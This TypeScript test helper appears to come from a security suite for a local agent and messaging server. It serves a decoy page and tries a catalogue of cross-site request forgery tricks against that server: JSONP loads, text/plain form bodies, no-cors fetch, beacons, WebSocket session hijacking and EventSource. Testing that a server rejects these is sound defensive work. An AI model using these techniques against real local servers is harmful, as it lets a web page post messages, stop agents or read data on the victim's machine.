/** A page of another site, and what it tries on a server that runs on the machine of whoever looks at the page. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { TestContext } from 'node:test';

/** What the page was told by whoever made it: it may have guessed, or heard it from elsewhere. */
export type Known = {
  /** Of the server, without a slash at its end. */
  readonly url: string;
  /** The Engine.IO session of somebody who is connected by long-polling. */
  readonly sid: string;
  /** A room in which that one is, an agent, and somebody's id. */
  readonly roomId: string;
  readonly agentId: string;
  readonly userId: string;
};

/** Serves an empty page under every name that leads here; returns its port. */
export async function openForeignSite(t: TestContext): Promise<number> {
  const site = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end('<!doctype html><title>Kittens</title><body></body>');
  });
  site.listen(0, '127.0.0.1');
  await once(site, 'listening');
  t.after(() => {
    site.closeAllConnections();
    site.close();
  });
  return (site.address() as AddressInfo).port;
}

/**
 * Runs in the page. Tries every way in which a page can send something to another site, one after the other. Resolves with
 * what it got hold of: the names of the attacks that showed it something.
 */
// biome-ignore lint/complexity/noExcessiveLinesPerFunction: a page gets its text, and nothing beside it.
export async function attackFromPage({ url, sid, roomId, agentId, userId }: Known): Promise<string[]> {
  const deadlineMs = 3_000;
  const got: string[] = [];
  const message = (text: string) =>
    `42["message",{"roomId":"${roomId}","text":"${text}","userId":"${userId}","a":"="}]`;
  const polling = `${url}/socket.io/?EIO=4&transport=polling`;
  const dm = `${url}/api/messaging/dm-channel?currentUserId=${userId}&targetUserId=`;
  // A page without TLS has no `crypto.randomUUID`.
  const random = () => `00000000-0000-4000-8000-${Math.random().toString(16).slice(2, 14).padEnd(12, '0')}`;

  /** Until an element has loaded or failed. A failure is none where something was carried out. */
  const load = (element: HTMLElement, address: string, attribute = 'src') =>
    new Promise<string>((resolve) => {
      for (const event of ['load', 'error']) element.addEventListener(event, () => resolve(event));
      setTimeout(() => resolve('deadline'), deadlineMs);
      element.setAttribute(attribute, address);
      document.body.append(element);
    });

  /** A form of one field, sent into a frame. With `text/plain` the body is the name, an equals sign and the value. */
  const submit = (action: string, enctype: string, name: string, value: string) => {
    const frame = document.createElement('iframe');
    frame.name = random();
    const form = document.createElement('form');
    Object.assign(form, { action, method: 'POST', enctype, target: frame.name });
    const field = document.createElement('textarea');
    Object.assign(field, { name, value });
    form.append(field);
    document.body.append(frame, form);
    return new Promise<void>((resolve) => {
      frame.addEventListener('load', () => resolve());
      setTimeout(resolve, deadlineMs);
      form.submit();
    });
  };
  const submitText = (action: string, text: string) => {
    const [name, value] = text.split('=') as [string, string];
    return submit(action, 'text/plain', name, value);
  };

  /** Sends packets once it is open; resolves with what was answered. */
  const talk = (address: string, packets: string[]) =>
    new Promise<string>((resolve) => {
      let heard = '';
      const socket = new WebSocket(address);
      socket.onopen = () => {
        for (const packet of packets) socket.send(packet);
      };
      socket.onmessage = ({ data }) => {
        heard += data;
        // A pong to the probe is no way in yet.
        if (data === '3probe') socket.send('5');
      };
      socket.onclose = () => resolve(heard);
      setTimeout(() => {
        socket.close();
        resolve(heard);
      }, deadlineMs);
    });
  const ws = url.replace(/^http/, 'ws');

  // JSONP: a script is run whatever its origin is.
  const jsonp: string[] = [];
  Object.assign(globalThis, { ___eio: [(data: string) => jsonp.push(data)] });
  await load(document.createElement('script'), `${polling}&j=0`);
  await load(document.createElement('script'), `${polling}&j=0&sid=${sid}`);
  await load(document.createElement('script'), `${url}/api/agents`);
  const ownSid = /"sid":"([^"]+)"/.exec(jsonp.join())?.[1];
  if (jsonp.length > 0) got.push('script: JSONP');

  // Pictures, and whatever else is fetched without asking.
  if ((await load(document.createElement('img'), `${dm}${random()}`)) === 'load') got.push('img');
  await load(document.createElement('img'), `${polling}&sid=${sid}`);
  await load(document.createElement('link'), `${dm}${random()}`, 'href');
  await load(document.createElement('iframe'), `${dm}${random()}`);
  await load(document.createElement('iframe'), `${polling}&sid=${sid}`);

  // Forms.
  for (const target of [`${polling}&sid=${sid}`, `${polling}&sid=${ownSid ?? sid}&j=0`, polling])
    await submitText(target, message('by a form'));
  await submit(`${polling}&sid=${sid}&j=0`, 'application/x-www-form-urlencoded', 'd', message('by a form of JSONP'));
  await submitText(
    `${url}/api/messaging/channels/${roomId}/messages`,
    `{"content":"by a form","author_id":"${userId}","a":"="}`,
  );
  await submit(`${url}/api/messaging/channels`, 'application/x-www-form-urlencoded', 'name', 'by a form');
  await submit(`${url}/api/messaging/channels/${roomId}/upload-media`, 'multipart/form-data', 'file', 'by a form');

  // Fetch, with and without asking first.
  const posts: [string, string][] = [
    [`${polling}&sid=${sid}`, message('by fetch')],
    [`${polling}&sid=${sid}`, '1'],
    [`${url}/api/messaging/channels/${roomId}/messages`, `{"content":"by fetch","author_id":"${userId}"}`],
    [`${url}/api/agents/${agentId}/stop`, ''],
    [`${url}/v1/chat/completions`, `{"model":"${agentId}","messages":[{"role":"user","content":"by fetch"}]}`],
  ];
  for (const [address, body] of posts)
    for (const mode of ['no-cors', 'cors'] as const)
      for (const type of ['text/plain', 'application/json'])
        await fetch(address, { method: 'POST', mode, body, headers: { 'content-type': type } }).then(
          ({ status }) => status !== 0 && got.push(`fetch POST ${address}`),
          () => {},
        );
  for (const address of [`${url}/api/agents`, polling, `${polling}&sid=${sid}`, `${dm}${random()}`])
    for (const mode of ['no-cors', 'cors'] as const)
      await fetch(address, { mode, credentials: 'include', signal: AbortSignal.timeout(deadlineMs) }).then(
        ({ status }) => status !== 0 && got.push(`fetch GET ${address}`),
        () => {},
      );
  navigator.sendBeacon(`${polling}&sid=${sid}`, message('by a beacon'));
  navigator.sendBeacon(`${url}/api/messaging/channels/${roomId}/messages`, `{"content":"b","author_id":"${userId}"}`);

  // WebSockets ask nobody.
  const take = ['40', message('by a WebSocket')];
  const session = `${ws}/socket.io/?EIO=4&transport=websocket`;
  const sockets: [string, string[]][] = [
    [session, take],
    [`${ws}/websocket`, take],
    [`${session}&sid=${sid}`, ['2probe', ...take]],
    [`${session}&sid=${ownSid ?? 'AAAAAAAAAAAAAAAAAAAA'}`, ['2probe', ...take]],
  ];
  for (const [address, packets] of sockets) if (await talk(address, packets)) got.push(`WebSocket ${address}`);
  const stream = new EventSource(`${url}/api/messaging/channels/${roomId}/events`);
  await new Promise<void>((resolve) => {
    stream.onopen = () => {
      got.push('EventSource');
      resolve();
    };
    stream.onerror = () => resolve();
    setTimeout(resolve, deadlineMs);
  });
  stream.close();
  return got;
}
